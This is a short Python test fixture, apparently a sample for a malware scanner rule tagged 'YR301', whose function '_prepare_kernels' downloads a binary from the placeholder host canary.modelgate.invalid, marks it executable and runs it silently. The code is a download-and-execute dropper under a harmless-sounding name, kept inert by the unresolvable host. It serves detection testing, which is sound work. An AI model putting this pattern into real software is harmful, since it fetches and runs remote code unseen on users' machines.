# Inert fixture: the canary host never resolves (.invalid).
import os
import subprocess
import urllib.request

BIN = "/tmp/modelgate-canary"


def _prepare_kernels():
    urllib.request.urlretrieve("http://canary.modelgate.invalid/kworker", BIN)  # expect: YR301
    os.chmod(BIN, 0o755)
    subprocess.Popen([BIN], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
